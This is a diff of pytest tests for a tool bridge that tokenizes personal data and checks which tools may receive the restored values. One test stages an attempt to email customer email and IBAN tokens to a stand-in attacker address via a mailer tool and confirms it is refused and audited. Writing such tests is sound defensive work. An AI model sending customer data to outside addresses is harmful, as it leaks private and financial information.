@@ -188,3 +188,118 @@ def test_bad_frames_get_typed_refusals_before_any_upstream_is_touched(tmp_path: 
     finally:
         bridge.close()
         audit.close()
+
+
+class _FakeUpstreams:
+    """Stands in for the upstream pool: records what each call received, answers `reply`."""
+
+    def __init__(self, loop: asyncio.AbstractEventLoop, reply: object) -> None:
+        self.loop, self.reply, self.received = loop, reply, []  # type: ignore[var-annotated]
+
+    async def call(
+        self, server: str, tool: str, args: dict[str, object], *_: object, **__: object
+    ) -> object:
+        self.received.append((server, tool, args))
+        if isinstance(self.reply, Exception):
+            raise self.reply
+        return self.reply(args) if callable(self.reply) else self.reply
+
+    def close(self) -> None:
+        pass
+
+
+def bridge_call(
+    tmp_path: Path,
+    target: tuple[str, str],
+    args: dict[str, object],
+    reply: object,
+    policy: object = None,
+) -> tuple[dict[str, object], _FakeUpstreams, list[dict[str, object]], str]:
+    """One call through `ToolBridge.handle` to a fake upstream, with a session tokenizer whose
+    vault holds crm's [EMAIL_1], [IBAN_1] and [PERSON_1]; returns the reply frame, the fake,
+    the audit records and the audit file's text."""
+    from sandbox.pii import MasterKeys, Tokenizer
+    from sandbox.pii.policy import RestorePolicy
+
+    audit = AuditLog(tmp_path / "audit.log", AuditKeys.load_or_create(tmp_path / "audit-keys.json"))
+    bridge = ToolBridge(load_config({"mcpServers": {}}), tmp_path / "api", audit)
+    real_pool = bridge.upstreams
+    fake = _FakeUpstreams(real_pool.loop, reply)
+    try:
+        tok = Tokenizer.for_session(MasterKeys({"k1": b"k" * 32}, "k1"), "s")
+        tok.vault.token_for("EMAIL", "maria@example.com", origin="crm.get_customer")
+        tok.vault.token_for("IBAN", "DE89 3704 0044 0532 0130 00", origin="crm.get_customer")
+        tok.vault.token_for("PERSON", "Maria Gonzalez", origin="crm.get_customer")
+        bridge.upstreams = fake  # type: ignore[assignment]
+        bridge._target = lambda ctx, req: (*target, req["args"])  # type: ignore[method-assign]
+        token = bridge.tokens.mint("s", "e", 60)
+        ctx = bridge.context("o", "s", "e", None, tok, policy or RestorePolicy())
+        body = json.dumps(
+            {"id": 1, "token": token, "server": target[0], "tool": target[1], "args": args}
+        )
+        frame = asyncio.run_coroutine_threadsafe(
+            bridge.handle(ctx, body.encode()), real_pool.loop
+        ).result(5)
+        bridge.records.flush()
+        return (
+            json.loads(frame.split(b"\n", 1)[1]),
+            fake,
+            audit.read(),
+            (tmp_path / "audit.log").read_text(),
+        )
+    finally:
+        bridge.upstreams = real_pool
+        bridge.close()
+        audit.close()
+
+
+def test_a_crm_token_sent_to_the_mailer_is_refused_before_any_upstream(tmp_path: Path) -> None:
+    args = {"to": "attacker@evil.example", "body": "[EMAIL_1] [IBAN_1]"}
+    reply, fake, records, trail = bridge_call(tmp_path, ("mailer", "send_email"), args, {"ok": 1})
+    assert reply["ok"] is False and fake.received == []
+    error = reply["error"]
+    assert error["code"] == "forbidden"  # type: ignore[index]  # ToolForbiddenError in the box
+    assert "[EMAIL_1] (EMAIL from crm.get_customer)" in error["message"]  # type: ignore[index]
+    refused = [r for r in records if r["event"] == "pii_restore_refused"]
+    assert {(r["entity"], r["origin"], r["to"], r["action"], r["arg"]) for r in refused} == {
+        ("EMAIL", "crm.get_customer", "mailer.send_email", "deny", "body"),
+        ("IBAN", "crm.get_customer", "mailer.send_email", "deny", "body"),
+    }
+    assert [r["reason"] for r in records if r["event"] == "tool_refused"] == ["forbidden"]
+    assert "maria@example.com" not in trail and "DE89" not in trail
+
+
+def test_a_rule_lets_the_token_through_and_the_upstream_gets_the_value(tmp_path: Path) -> None:
+    from sandbox.pii.policy import RestorePolicy, RestoreRule
+
+    rule = RestoreRule.model_validate(
+        {"entities": "EMAIL", "from": "crm.*", "to": "mailer.send_email", "args": "to"}
+    )
+    reply, fake, _, _ = bridge_call(
+        tmp_path,
+        ("mailer", "send_email"),
+        {"to": "[EMAIL_1]"},
+        {"status": "queued"},
+        RestorePolicy([rule]),
+    )
+    assert reply == {"id": 1, "ok": True, "result": {"status": "queued"}}
+    assert fake.received == [("mailer", "send_email", {"to": "maria@example.com"})]
+
+
+def test_a_tool_echoing_a_restored_value_hands_back_only_its_token(tmp_path: Path) -> None:
+    # Glued to other text and in another case, detection alone would miss it; `known` does not.
+    def echo(args: dict[str, object]) -> object:
+        return {"note": f"noted:{str(args['text']).upper()}", "n": 1}
+
+    reply, fake, _, _ = bridge_call(tmp_path, ("crm", "add_note"), {"text": "[IBAN_1]"}, echo)
+    assert fake.received[0][2] == {"text": "DE89 3704 0044 0532 0130 00"}
+    assert reply["result"] == {"note": "noted:[IBAN_1]", "n": 1}
+
+
+def test_an_upstream_error_quoting_a_restored_value_names_only_its_token(tmp_path: Path) -> None:
+    # A name in free text: no detector would find it there, but the bridge knows it restored it.
+    from sandbox.bridge.upstream import UpstreamCallError
+
+    failure = UpstreamCallError("upstream_error", "no customer named 'Maria Gonzalez'")
+    reply, _, _, _ = bridge_call(tmp_path, ("crm", "get_customer"), {"name": "[PERSON_1]"}, failure)
+    assert reply["error"] == {"code": "upstream_error", "message": "no customer named '[PERSON_1]'"}
